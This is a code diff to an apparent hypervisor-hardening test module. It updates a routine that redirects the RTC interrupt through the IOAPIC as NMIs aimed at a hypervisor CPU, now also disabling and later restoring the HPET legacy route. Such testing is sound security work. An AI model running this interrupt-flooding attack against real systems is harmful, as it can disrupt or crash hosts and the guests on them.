@@ -309,7 +309,9 @@ static void attack_nmi(void)
  * kept from it, and makes the RTC interrupt periodically (register B bit 6,
  * PIE; reading register C re-arms it) for 200 ms. The hypervisor's CPU must
  * take and ignore them; the entry and register B are restored after. The
- * IOAPIC is at its default address (Bochs; the MADT is not consulted). */
+ * HPET's legacy replacement route, which takes IRQ 8 from the RTC, is off
+ * meanwhile. The IOAPIC and the HPET are at their default addresses (Bochs;
+ * the MADT and the HPET table are not consulted). */
 static u32 ioapic_rd(void __iomem *io, u32 reg) { writel(reg, io); return readl(io + 0x10); }
 static void ioapic_wr(void __iomem *io, u32 reg, u32 v) { writel(reg, io); writel(v, io + 0x10); }
 static u8 cmos_rd(u8 r) { outb(r, 0x70); return inb(0x71); }
@@ -318,14 +320,18 @@ static void cmos_wr(u8 r, u8 v) { outb(r, 0x70); outb(v, 0x71); }
 static void attack_ioapic_nmi(void)
 {
 	const u32 pin = 8;
-	void __iomem *io = ioremap(0xfec00000, 0x20);
+	void __iomem *io = ioremap(0xfec00000, 0x20), *hpet = ioremap(0xfed00000, 0x400);
 	unsigned long flags;
 	int irqs = 0;
-	if (!io) {
-		outcome("ioapic nmi", false, "NO IOAPIC MAPPING");
+	u64 hpet_cfg = 0;
+	if (!io || !hpet) {
+		outcome("ioapic nmi", false, "NO IOAPIC OR HPET MAPPING");
 		return;
 	}
 	local_irq_save(flags);
+	hpet_cfg = readq(hpet + 0x10);                                    /* general configuration */
+	if (hpet_cfg & BIT(1))
+		writeq(hpet_cfg & ~BIT(1), hpet + 0x10);                  /* LEG_RT_CNF off: IRQ 8 is the RTC's */
 	u32 lo = ioapic_rd(io, 0x10 + 2 * pin), hi = ioapic_rd(io, 0x11 + 2 * pin);
 	ioapic_wr(io, 0x10 + 2 * pin, lo | BIT(16));                     /* masked while it changes */
 	ioapic_wr(io, 0x11 + 2 * pin, (u32)target_apic << 24);
@@ -343,7 +349,9 @@ static void attack_ioapic_nmi(void)
 	ioapic_wr(io, 0x10 + 2 * pin, lo | BIT(16));
 	ioapic_wr(io, 0x11 + 2 * pin, hi);
 	ioapic_wr(io, 0x10 + 2 * pin, lo);
+	writeq(hpet_cfg, hpet + 0x10);
 	local_irq_restore(flags);
+	iounmap(hpet);
 	iounmap(io);
 	pr_info("hvattack: ioapic nmi pin=%u apic_id=%d rtc_irqs=%d -> %s\n", pin, target_apic, irqs,
 		irqs > 0 ? "survived" : "NO RTC INTERRUPTS");
